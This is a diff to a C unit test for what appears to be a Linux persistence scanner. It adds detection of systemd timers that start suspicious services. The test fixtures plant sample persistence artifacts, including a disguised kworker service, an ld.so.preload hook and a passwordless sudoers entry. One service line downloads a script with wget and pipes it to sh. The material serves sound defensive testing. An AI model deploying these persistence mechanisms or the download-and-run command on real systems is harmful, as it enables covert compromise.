@@ -12,7 +12,7 @@
 
 static void run_all(struct fx *x)
 {
-	for (int i = 1; i <= 9; i++) {
+	for (int i = 1; i <= 10; i++) {
 		char id[16];
 
 		snprintf(id, sizeof(id), "PER-%03d", i);
@@ -46,6 +46,13 @@ static char *small_root(void)
 		"[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\n"
 		"ExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/bin/kill -HUP $MAINPID\n",
 		0644);
+	/* a real-looking timer and its service (apt's daily run) */
+	t_write(root, "lib/systemd/system/apt-daily.timer",
+		"[Unit]\nDescription=Daily apt download activities\n\n[Timer]\n"
+		"OnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n",
+		0644);
+	t_write(root, "lib/systemd/system/apt-daily.service",
+		"[Service]\nType=oneshot\nExecStart=/usr/lib/apt/apt.systemd.daily update\n", 0644);
 	t_write(root, "etc/sudoers",
 		"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"
 		"bob ALL=(root) NOPASSWD: /usr/bin/apt\n",
@@ -89,6 +96,27 @@ static void plant(const char *root)
 		"[Service]\nExecStartPre=-/usr/lib/.hidden/helper --init\n"
 		"ExecStart=/usr/local/bin/[kworker/0:1]\n",
 		0644);
+	/* timers: one starting kworker.service by Unit=, one by its own name, a user's, one
+	 * without a time trigger, and a template instance */
+	t_write(root, "etc/systemd/system/sync.timer",
+		"[Unit]\nDescription=sync\n\n[Timer]\nOnBootSec=5min\nOnUnitActiveSec=10min\n"
+		"Unit=kworker.service\n\n[Install]\nWantedBy=timers.target\n",
+		0644);
+	t_write(root, "etc/systemd/system/dl.timer", "[Timer]\n  OnCalendar = hourly\n", 0644);
+	t_write(root, "etc/systemd/system/dl.service",
+		"[Unit]\nDescription=dl\n[Service]\nType=oneshot\n"
+		"ExecStart=/bin/sh -c 'wget -qO- http://198.51.100.7/x | sh'\n",
+		0644);
+	t_write(root, "home/alice/.config/systemd/user/agent.timer", "[Timer]\nOnStartupSec=1\n",
+		0644);
+	t_write(root, "home/alice/.config/systemd/user/agent.service",
+		"[Service]\nExecStart=/home/alice/.x/agent\n", 0644);
+	t_write(root, "etc/systemd/system/path-only.timer", "[Timer]\nPersistent=true\n", 0644);
+	t_write(root, "etc/systemd/system/path-only.service", "[Service]\nExecStart=/tmp/x\n",
+		0644);
+	t_write(root, "etc/systemd/system/tick@.service", "[Service]\nExecStart=/dev/shm/tick %i\n",
+		0644);
+	t_write(root, "etc/systemd/system/tick@1.timer", "[Timer]\nOnCalendar=daily\n", 0644);
 	t_write(root, "etc/ld.so.preload", "# comment\n/usr/lib/x86_64-linux-gnu/libhide.so\n",
 		0644);
 	t_write(root, "etc/rc.local", "#!/bin/sh -e\nnohup /var/tmp/x >/dev/null 2>&1 &\nexit 0\n",
@@ -150,7 +178,8 @@ static void test_planted(void **state)
 	expect(&x, "PER-001", "/etc/cron.daily/logs", 2, "base64");
 	assert_int_equal(fx_gaps(&x, "PER-001"), 1); /* /etc/cron.d/huge */
 
-	assert_int_equal(fx_count(&x, "PER-002"), 3);
+	/* kworker, helper (two lines), and the services the timers below start */
+	assert_int_equal(fx_count(&x, "PER-002"), 7);
 	expect(&x, "PER-002", "/etc/systemd/system/kworker.service", 2, "temporary");
 	assert_non_null(fx_find(&x, "PER-002", "/etc/systemd/system/helper.service"));
 
@@ -177,6 +206,19 @@ static void test_planted(void **state)
 
 	assert_int_equal(fx_count(&x, "PER-008"), 1);
 	expect(&x, "PER-008", "/etc/sudoers.d/backdoor", 1, "without a password");
+
+	/* the timer -> service chains, at the timer's trigger line, naming the service's line */
+	assert_int_equal(fx_count(&x, "PER-010"), 4);
+	expect(&x, "PER-010", "/etc/systemd/system/sync.timer", 5, "OnBootSec");
+	assert_non_null(strstr(fx_find(&x, "PER-010", "/etc/systemd/system/sync.timer")->title,
+			       "starts /etc/systemd/system/kworker.service, whose line 2"));
+	assert_non_null(strstr(fx_find(&x, "PER-010", "/etc/systemd/system/sync.timer")->value,
+			       "OnBootSec=5min -> /etc/systemd/system/kworker.service:2 "
+			       "ExecStart=/tmp/.x/kworker"));
+	expect(&x, "PER-010", "/etc/systemd/system/dl.timer", 2, "download");
+	expect(&x, "PER-010", "/home/alice/.config/systemd/user/agent.timer", 2, "OnStartupSec");
+	expect(&x, "PER-010", "/etc/systemd/system/tick@1.timer", 2, "tick@.service");
+	assert_null(fx_find(&x, "PER-010", "/etc/systemd/system/path-only.timer"));
 
 	assert_int_equal(fx_count(&x, "PER-009"), 2);
 	expect(&x, "PER-009", "/dev/shm/.x", 0, "temporary");
